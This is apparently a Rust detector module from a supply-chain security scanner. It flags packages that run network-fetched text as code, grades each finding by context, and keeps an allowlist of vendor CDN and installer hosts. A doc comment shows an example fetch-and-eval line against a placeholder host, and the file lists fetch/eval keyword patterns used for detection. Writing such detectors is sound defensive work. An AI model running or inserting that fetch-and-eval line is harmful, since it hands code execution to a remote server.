//! Text that comes from the network is run as code.
//!
//! What runs is decided by a server, each time anew. Nobody can look at it before.
//!
//! **What to do:** do not run it. **Limits:** loaders of modules in browsers do this on demand with addresses of their caller; that is told as low.
//! **Example:** `eval(await (await fetch('https://x.invalid/c')).text())`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/eval-remote",
    catalogue: "EVAL-REMOTE",
    title: "runs text from the network as code",
    severity: Critical,
    ecosystems: &[],
    run,
};

fn run(package: &Package, findings: &mut Findings) {
    lines(package, findings);
    for (code, from, to, decoded) in package.flows() {
        let remote = matches!(from.what, What::NetReceive | What::ChannelReceive | What::DnsReceive);
        if !remote
            || !matches!(to.what, What::Eval | What::DynamicImport)
            || code.language == Some(Language::Shell)
        {
            continue;
        }
        let abroad = foreign(&from.detail).is_some();
        let grade = match (early(code, to), abroad || decoded) {
            (true, true) => (Critical, Sure),
            // Programs load modules, and what runs in WebAssembly, from addresses that their users set.
            (true, false) if is_part(to) && !is_install(code, to) => (Medium, Likely),
            // A page that adds a script to itself is told where from by who uses it.
            (true, false) if to.detail.starts_with("script ") && !is_install(code, to) => (Medium, Likely),
            // A large program that is loaded along with an install script receives what its own parts send it.
            (true, false) if is_deep(code) => (Medium, Likely),
            (true, false) => (Critical, Likely),
            (false, true) if abroad && !is_makers(&from.detail) => (High, Likely),
            (false, _) => (Low, Likely),
        };
        // What a function of a page loads by its address is the page's business, and WebAssembly reaches only what it is handed.
        let is_loading = is_part(to) || to.detail.starts_with("script ") || is_release_import(&to.detail);
        let is_shielded = to.detail.starts_with("WebAssembly") && !abroad && !is_install(code, to);
        let grade = if is_loading && !early(code, to) || is_shielded { (Low, Likely) } else { grade };
        // Whoever runs the tests of a project runs this file first, whatever they test.
        let is_set_up = basename(&code.path) == Some("conftest.py") && to.scope == Scope::Load;
        if is_set_up && abroad {
            let message = format!("runs what {} answers as code before any test", host(&from.detail));
            findings.tell_at(&code.full, Some(to.line), Stage::Call, (High, Sure), &message, &to.detail);
            continue;
        }
        findings.tell(
            code,
            to,
            grade,
            &format!("runs what {} answers as code {}", host(&from.detail), when(code, to)),
        );
    }
}

/// Interpreters that are started with a line of code that runs what it fetches.
fn lines(package: &Package, findings: &mut Findings) {
    const FETCHES: &[&str] =
        &["fetch(", "urlopen(", "requests.get(", "http.get(", "https.get(", "httpx.get("];
    const RUNS: &[&str] = &["(eval)", "eval(", "exec(", "function("];
    for (code, fact) in package.facts(&[What::Exec, What::ExecDetached]) {
        let line = fact.detail.to_ascii_lowercase();
        let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
        let is_inline = has(&[" -c ", " -e ", " --eval "]);
        let is_script = matches!(code.language, Some(Language::Shell | Language::Windows));
        if is_inline && has(FETCHES) && has(RUNS) && foreign(&fact.detail).is_some() && !is_script {
            let message = format!(
                "starts an interpreter that runs what {} answers {}",
                host(&fact.detail),
                when(code, fact)
            );
            let grade = if early(code, fact) { (Critical, Sure) } else { (High, Likely) };
            findings.tell(code, fact, grade, &message);
        }
    }
}

/// Whether a whole module is loaded, rather than text that becomes code.
fn is_part(to: &Fact) -> bool {
    to.what == What::DynamicImport || to.detail.starts_with("WebAssembly")
}

/// Whether what lies at an address was put there by the host itself: libraries that their makers serve, which nobody else can add to.
fn is_makers(address: &str) -> bool {
    const MAKERS: &[&str] = &[
        "www.gstatic.com",
        "ajax.googleapis.com",
        "code.jquery.com",
        "cdn.plot.ly",
        "js.stripe.com",
        // Installers of languages and tools, which are published to be run like that.
        "sh.rustup.rs",
        "get.docker.com",
        "install.python-poetry.org",
        "astral.sh",
        "bun.sh",
        "deno.land",
        "get.pnpm.io",
    ];
    foreign(address).is_some_and(|address| MAKERS.contains(&address.host.as_str()))
}

/// Whether a module is imported from a network that serves what a registry holds, in one release: that stays what it was.
fn is_release_import(detail: &str) -> bool {
    const NETWORKS: &[&str] = &["cdn.jsdelivr.net", "unpkg.com", "esm.sh", "cdn.skypack.dev"];
    let Some(address) = detail.strip_prefix("import ").and_then(foreign) else { return false };
    let names_release =
        address.path.rsplit('@').next().is_some_and(|version| {
            version.starts_with(|c: char| c.is_ascii_digit()) && version.contains('.')
        });
    NETWORKS.contains(&address.host.as_str()) && names_release
}
